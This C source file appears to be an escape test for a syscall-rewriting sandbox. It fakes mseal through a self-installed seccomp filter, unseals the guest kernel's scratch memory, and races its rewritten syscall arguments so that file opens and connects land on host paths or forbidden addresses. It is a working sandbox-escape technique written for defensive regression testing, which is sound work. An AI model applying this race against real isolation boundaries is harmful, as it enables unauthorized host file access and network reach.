/* A guest that unseals the guest kernel's scratch memory and races what
 * the guest kernel wrote there (tests/escape/test_hostpath_escapes.py).
 *
 *   hp_scratch read TARGET ATTEMPTS
 *       open the guest's own file read-only; the racer puts TARGET (a host
 *       path) in its place: the guest must only ever read its own file.
 *   hp_scratch write TARGET ATTEMPTS
 *       open the guest's own file for writing; the racer puts TARGET in
 *       its place: the fd must always be the guest's file (readlink of
 *       /proc/self/fd/N; the guest writes through it).
 *       The guest's file (in /tmp) has a name longer than TARGET, so the
 *       racer's string ends inside the host path the guest kernel wrote
 *       and leaves the open_how after it alone.
 *   hp_scratch net ALLOWED_IP ALLOWED_PORT TARGET_IP TARGET_PORT ATTEMPTS
 *       connect to the allowed address; the racer puts the target address
 *       in its place.
 *
 * First the program installs a seccomp filter of its own that answers
 * mseal (462) with SECCOMP_RET_ERRNO|0, a success that does nothing, and
 * execs itself: the guest kernel maps its scratch memory in the new image
 * and seals it with an injected mseal, which the filter fakes.  Then it
 * finds the scratch mapping in /proc/self/maps (anonymous, r--p), makes
 * it writable and starts a thread that keeps writing the target at the
 * start of every slot (where the guest kernel puts a rewritten call's
 * first argument) while the main thread makes its calls.
 *
 * Prints "ESCAPE ..." for what it reached, "SEALED ..." when the scratch
 * memory cannot be made writable, "RESULT ..." and "DONE". */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#define SLOT 0x10000            /* umlpy/kernel/vfs/scratch.py: SLOT_SIZE */
#define MAX_AREAS 8

static struct {
    char *base;
    size_t size;
} areas[MAX_AREAS];
static int nareas;
static unsigned char payload[4096];
static size_t payload_len;
static atomic_int stop;

static void install_filter(void)
{
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 462, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {sizeof code / sizeof code[0], code};
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0)
        perror("PR_SET_NO_NEW_PRIVS");
    if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) < 0) {
        printf("NOFILTER seccomp: %s\n", strerror(errno));
        return;
    }
    printf("FILTER mseal is faked from now on\n");
}

/* anonymous read-only mappings: the scratch memory is one of them */
static void find_scratch(void)
{
    FILE *f = fopen("/proc/self/maps", "r");
    if (!f) {
        printf("SETUP-FAILED /proc/self/maps: %s\n", strerror(errno));
        exit(3);
    }
    char line[512];
    while (fgets(line, sizeof line, f) && nareas < MAX_AREAS) {
        unsigned long lo, hi, off;
        char perms[8], dev[16], path[256] = "";
        unsigned long ino;
        if (sscanf(line, "%lx-%lx %7s %lx %15s %lu %255s", &lo, &hi, perms, &off, dev, &ino,
                   path) < 6)
            continue;
        if (strcmp(perms, "r--p") || ino != 0 || path[0] || hi - lo < SLOT)
            continue;
        areas[nareas].base = (char *)lo;
        areas[nareas].size = hi - lo;
        nareas++;
        printf("CANDIDATE %lx-%lx\n", lo, hi);
    }
    fclose(f);
}

static void *racer(void *arg)
{
    (void)arg;
    while (!atomic_load(&stop))
        for (int a = 0; a < nareas; a++)
            for (size_t off = 0; off + payload_len <= areas[a].size; off += SLOT)
                memcpy(areas[a].base + off, payload, payload_len);
    return NULL;
}

static int unseal(void)
{
    int writable = 0;
    for (int a = 0; a < nareas; a++) {
        if (mprotect(areas[a].base, areas[a].size, PROT_READ | PROT_WRITE) == 0) {
            printf("UNSEALED %p (%zu bytes)\n", areas[a].base, areas[a].size);
            areas[writable++] = areas[a];
        } else
            printf("SEALED %p: mprotect: %s\n", areas[a].base, strerror(errno));
    }
    nareas = writable;
    return writable;
}

static long escapes, attempts_made;

static int try_read(const char *allowed, const char *expect)
{
    char buf[4096];
    int fd = open(allowed, O_RDONLY);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n < 0)
        return 0;
    buf[n] = 0;
    if (strcmp(buf, expect)) {
        printf("ESCAPE read another file than %s: %s\n", allowed, buf);
        return 1;
    }
    return 0;
}

static int try_write(const char *own)
{
    char link[64], where[4096];
    int fd = open(own, O_WRONLY | O_APPEND);
    if (fd < 0)
        return 0;
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, where, sizeof where - 1);
    where[n > 0 ? n : 0] = 0;
    int won = strcmp(where, own) != 0;
    if (won) {
        if (write(fd, "ESCAPE written by the guest\n", 28) < 0)
            perror("write");
        printf("ESCAPE opened %s for writing instead of %s\n", where, own);
    }
    close(fd);
    return won;
}

static int try_connect(const struct sockaddr_in *allowed, const struct sockaddr_in *target)
{
    int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (s < 0)
        return 0;
    int r = connect(s, (const struct sockaddr *)allowed, sizeof *allowed);
    int e = errno;
    struct sockaddr_in peer;
    socklen_t len = sizeof peer;
    int won = 0;
    if ((r == 0 || e == EINPROGRESS)
        && getpeername(s, (struct sockaddr *)&peer, &len) == 0
        && peer.sin_addr.s_addr == target->sin_addr.s_addr && peer.sin_port == target->sin_port) {
        printf("ESCAPE connected to the target address instead of the allowed one\n");
        won = 1;
    }
    close(s);
    return won;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2) {
        fprintf(stderr, "usage: see the source\n");
        return 2;
    }
    const char *stage = getenv("HP_STAGE");
    if (!stage) {
        install_filter();
        setenv("HP_STAGE", "2", 1);
        execv(argv[0], argv);
        printf("SETUP-FAILED exec %s: %s\n", argv[0], strerror(errno));
        return 3;
    }
    const char *mode = argv[1];
    long attempts;
    struct sockaddr_in allowed = {.sin_family = AF_INET}, target = {.sin_family = AF_INET};
    char expect[4096] = "";
    static char own[512];
    int fd;
    if (!strcmp(mode, "read") || !strcmp(mode, "write")) {
        if (argc != 4)
            return 2;
        attempts = atol(argv[3]);
        payload_len = strlen(argv[2]) + 1;
        if (payload_len > 200)
            return 2;
        memcpy(payload, argv[2], payload_len);
        int len = snprintf(own, sizeof own, "/tmp/hp-own-%d-", (int)getpid());
        while (len < (int)payload_len + 8)
            own[len++] = 'x';
        own[len] = 0;
        fd = open(own, O_WRONLY | O_CREAT | O_TRUNC, 0666);
        if (fd < 0) {
            printf("SETUP-FAILED %s: %s\n", own, strerror(errno));
            return 3;
        }
        strcpy(expect, "the guest's own file\n");
        if (write(fd, expect, strlen(expect)) < 0)
            perror("write");
        close(fd);
    } else if (!strcmp(mode, "net")) {
        if (argc != 7)
            return 2;
        inet_pton(AF_INET, argv[2], &allowed.sin_addr);
        allowed.sin_port = htons(atoi(argv[3]));
        inet_pton(AF_INET, argv[4], &target.sin_addr);
        target.sin_port = htons(atoi(argv[5]));
        attempts = atol(argv[6]);
        memcpy(payload, &target, sizeof target);
        payload_len = sizeof target;
    } else
        return 2;

    /* an open the guest kernel rewrites maps the scratch memory */
    fd = open("/", O_RDONLY | O_DIRECTORY);
    if (fd >= 0)
        close(fd);
    find_scratch();
    if (!nareas) {
        printf("NOSCRATCH no anonymous read-only mapping\n");
        printf("DONE\n");
        return 0;
    }
    if (!unseal()) {
        printf("DONE\n");
        return 0;
    }
    pthread_t t;
    pthread_create(&t, NULL, racer, NULL);
    for (attempts_made = 0; attempts_made < attempts && !escapes; attempts_made++) {
        if (!strcmp(mode, "read"))
            escapes += try_read(own, expect);
        else if (!strcmp(mode, "write"))
            escapes += try_write(own);
        else
            escapes += try_connect(&allowed, &target);
    }
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    printf("RESULT %s attempts=%ld escapes=%ld\n", mode, attempts_made, escapes);
    printf("DONE\n");
    return escapes ? 1 : 0;
}
